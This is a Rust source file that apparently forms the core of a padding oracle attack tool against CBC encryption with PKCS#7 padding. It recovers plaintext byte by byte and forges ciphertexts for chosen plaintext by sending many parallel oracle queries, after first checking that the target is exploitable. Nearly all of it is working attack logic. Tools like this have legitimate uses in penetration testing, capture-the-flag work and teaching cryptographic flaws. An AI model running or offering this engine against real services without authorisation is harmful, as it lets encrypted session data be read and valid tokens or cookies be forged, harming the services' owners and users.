use std::sync::mpsc;
use std::sync::Arc;

use crate::encoding::Encoder;
use crate::error::Error;
use crate::oracle::{CancelToken, Oracle, Verdict};
use crate::status::Status;

/// Attack parameters.
#[derive(Debug, Clone)]
pub struct Config {
    /// Cipher block length in bytes.
    pub block_len: usize,
    /// Upper bound on in-flight oracle probes.
    pub parallel: usize,
    /// Mask recovered bytes in status output; they are meaningless while
    /// forging.
    pub encrypt_mode: bool,
}

impl Default for Config {
    fn default() -> Self {
        Self {
            block_len: 16,
            parallel: 100,
            encrypt_mode: false,
        }
    }
}

/// The attack engine. Holds the oracle, the wire codec and a worker pool,
/// and drives the byte-by-byte recovery in both directions: decrypting a
/// given sample, or forging a ciphertext for a chosen plaintext.
pub struct Cracker {
    oracle: Arc<dyn Oracle>,
    encoder: Arc<dyn Encoder>,
    status: Arc<dyn Status>,
    block_len: usize,
    encrypt_mode: bool,
    pool: rayon::ThreadPool,
}

impl Cracker {
    pub fn new(
        config: Config,
        oracle: Arc<dyn Oracle>,
        encoder: Arc<dyn Encoder>,
        status: Arc<dyn Status>,
    ) -> Result<Self, Error> {
        // a 1-byte block leaves no penultimate byte for the last-byte
        // confirmation, and the padding byte itself must fit in a u8
        if config.block_len < 2 || config.block_len > 255 {
            return Err(Error::Config(format!(
                "block length must be between 2 and 255, got {}",
                config.block_len
            )));
        }
        if config.parallel == 0 {
            return Err(Error::Config("parallelism must be at least 1".into()));
        }
        let pool = rayon::ThreadPoolBuilder::new()
            .num_threads(config.parallel)
            .build()
            .map_err(|e| Error::Config(e.to_string()))?;

        Ok(Self {
            oracle,
            encoder,
            status,
            block_len: config.block_len,
            encrypt_mode: config.encrypt_mode,
            pool,
        })
    }

    /// Recovers the plaintext hidden in the encoded `sample`, trailing
    /// PKCS#7 padding included. The first block of the sample is taken as
    /// the IV.
    pub fn decrypt(&self, sample: &str) -> Result<Vec<u8>, Error> {
        if sample.is_empty() {
            return Err(Error::EmptySample);
        }
        let mut cipher = self.encoder.decode(sample)?;
        if cipher.is_empty() {
            return Err(Error::EmptySample);
        }
        if cipher.len() % self.block_len != 0 {
            return Err(Error::MisalignedSample {
                len: cipher.len(),
                block_len: self.block_len,
            });
        }
        if cipher.len() / self.block_len < 2 {
            return Err(Error::NoTargetBlock);
        }

        self.confirm_oracle(&mut cipher)?;

        let block_len = self.block_len;
        let block_count = cipher.len() / block_len - 1;
        let mut plain = vec![0u8; block_count * block_len];

        self.status.open(plain.len());
        let result: Result<(), Error> = (|| {
            // tail-first, so the status line fills from the end
            for i in (0..block_count).rev() {
                let mut chunk = cipher[i * block_len..(i + 2) * block_len].to_vec();
                let (plain_block, _) = self.break_chunk(&mut chunk)?;
                plain[i * block_len..(i + 1) * block_len].copy_from_slice(&plain_block);
            }
            Ok(())
        })();
        self.status.close();

        result.map(|()| plain)
    }

    /// Forges a ciphertext (IV block included) that decrypts to `plain`
    /// under the oracle's key, by recovering the cipher's intermediary
    /// bytes block by block and XORing them with the padded plaintext.
    pub fn encrypt(&self, plain: &str) -> Result<Vec<u8>, Error> {
        let block_len = self.block_len;
        // the +1 guarantees a full padding block for aligned plaintexts
        let block_count = (plain.len() + 1).div_ceil(block_len);
        let pad = block_count * block_len - plain.len();
        let mut padded = plain.as_bytes().to_vec();
        padded.resize(block_count * block_len, pad as u8);

        // the trailing all-zero block serves as an arbitrary final
        // ciphertext block; each earlier block becomes the IV that bends
        // its successor onto the padded plaintext
        let mut cipher = vec![0u8; (block_count + 1) * block_len];

        self.status.open(self.encoder.encoded_len(cipher.len()));
        let result: Result<(), Error> = (|| {
            for block in (0..block_count).rev() {
                let mut chunk = cipher[block * block_len..(block + 2) * block_len].to_vec();
                let (_, intermediary) = self.break_chunk(&mut chunk)?;
                for i in 0..block_len {
                    cipher[block * block_len + i] = padded[block * block_len + i] ^ intermediary[i];
                }
                self.status
                    .string(&self.encoder.encode(&cipher[block * block_len..]));
            }
            Ok(())
        })();
        self.status.close();

        result.map(|()| cipher)
    }

    /// Pre-flight checks: the untouched sample must be accepted, and a
    /// tampered byte in the penultimate block must be caught.
    fn confirm_oracle(&self, cipher: &mut [u8]) -> Result<(), Error> {
        self.status.action("confirming the provided sample is valid");
        if self.probe(cipher, &CancelToken::new())? == Verdict::PaddingError {
            return Err(Error::SampleRejected);
        }

        self.status.action("confirming the padding oracle");
        let pos = cipher.len() - self.block_len - 1;
        let original = cipher[pos];

        // one tampered value can collide with another valid padding (think
        // flipping a \x02\x01 tail into \x02\x02), so try a few
        let mut outcome = Ok(false);
        for value in 0u8..=3 {
            if value == original {
                continue;
            }
            cipher[pos] = value;
            match self.probe(cipher, &CancelToken::new()) {
                Ok(Verdict::PaddingError) => {
                    outcome = Ok(true);
                    break;
                }
                Ok(Verdict::Accepted) => {}
                Err(err) => {
                    outcome = Err(err);
                    break;
                }
            }
        }
        cipher[pos] = original;

        match outcome {
            Ok(true) => Ok(()),
            Ok(false) => Err(Error::NotExploitable),
            Err(err) => Err(err),
        }
    }

    /// Decrypts the target (second) block of a two-block `chunk`.
    ///
    /// # Arguments
    /// * `chunk` - Two adjacent ciphertext blocks; the first half is
    ///   consumed as tampering scratch space.
    ///
    /// # Returns
    /// The plaintext of the target block and the cipher's intermediary
    /// bytes for it (`plaintext ⊕ previous ciphertext block`), which the
    /// forging path combines with a chosen plaintext.
    fn break_chunk(&self, chunk: &mut [u8]) -> Result<(Vec<u8>, Vec<u8>), Error> {
        let block_len = self.block_len;
        let mut plain = vec![0u8; block_len];
        let mut intermediary = vec![0u8; block_len];

        for pos in (0..block_len).rev() {
            // the sample byte at this offset, untouched by any tampering:
            // repairs only ever rewrite positions at or after the one they
            // were computed for
            let original = chunk[pos];

            let chosen = if pos == block_len - 1 {
                // A hit here usually means the target now ends in \x01, but
                // it can also mean we completed a longer padding the target
                // already carried. Collect up to two accepting values and
                // keep the one that survives a perturbed penultimate byte;
                // a true \x01 does not care about that byte.
                let found = self.find_accepting_bytes(chunk, pos, 2)?;
                let penultimate = chunk[pos - 1];
                let mut confirmed: Result<Option<u8>, Error> = Ok(None);
                for &candidate in &found {
                    chunk[pos] = candidate;
                    chunk[pos - 1] = penultimate.wrapping_sub(1);
                    match self.probe(chunk, &CancelToken::new()) {
                        Ok(Verdict::Accepted) => {
                            confirmed = Ok(Some(candidate));
                            break;
                        }
                        Ok(Verdict::PaddingError) => {}
                        Err(err) => {
                            confirmed = Err(err);
                            break;
                        }
                    }
                }
                chunk[pos - 1] = penultimate;
                confirmed?.ok_or(Error::UnexpectedOracleBehavior)?
            } else {
                self.find_accepting_bytes(chunk, pos, 1)?[0]
            };

            let pad_value = (block_len - pos) as u8;
            plain[pos] = chosen ^ original ^ pad_value;
            intermediary[pos] = chosen ^ pad_value;

            self.status
                .plain_byte(if self.encrypt_mode { b'*' } else { plain[pos] });

            // repair the forged tail so it produces the next padding value
            chunk[pos] = chosen;
            let adjust = pad_value ^ pad_value.wrapping_add(1);
            for byte in &mut chunk[pos..block_len] {
                *byte ^= adjust;
            }
        }

        Ok((plain, intermediary))
    }

    /// Probes all 256 values of `chunk[pos]` in parallel and returns the
    /// ones the oracle accepts, at most `max_count`, cancelling outstanding
    /// probes as soon as enough arrived. Acceptance order is whatever the
    /// oracle's timing makes it.
    fn find_accepting_bytes(
        &self,
        chunk: &[u8],
        pos: usize,
        max_count: usize,
    ) -> Result<Vec<u8>, Error> {
        let cancel = CancelToken::new();
        let (sender, receiver) = mpsc::channel();

        for value in 0u8..=255 {
            let sender = sender.clone();
            let cancel = cancel.clone();
            let oracle = Arc::clone(&self.oracle);
            let status = Arc::clone(&self.status);
            let mut candidate = chunk.to_vec();
            self.pool.spawn(move || {
                if cancel.is_cancelled() {
                    return;
                }
                candidate[pos] = value;
                let verdict = oracle.query(&candidate, &cancel);
                status.count_request();
                // results landing after cancellation are stale, errors
                // included; the send fails harmlessly once the receiver
                // is gone
                if cancel.is_cancelled() {
                    return;
                }
                let _ = sender.send((value, verdict));
            });
        }
        drop(sender);

        let mut found = Vec::with_capacity(max_count);
        for (value, verdict) in receiver {
            match verdict {
                Ok(Verdict::Accepted) => {
                    found.push(value);
                    if found.len() == max_count {
                        cancel.cancel();
                        return Ok(found);
                    }
                }
                Ok(Verdict::PaddingError) => {}
                Err(err) => {
                    cancel.cancel();
                    return Err(err);
                }
            }
        }

        if found.is_empty() {
            Err(Error::AllBytesRejected)
        } else {
            Ok(found)
        }
    }

    fn probe(&self, candidate: &[u8], cancel: &CancelToken) -> Result<Verdict, Error> {
        let verdict = self.oracle.query(candidate, cancel);
        self.status.count_request();
        verdict
    }
}
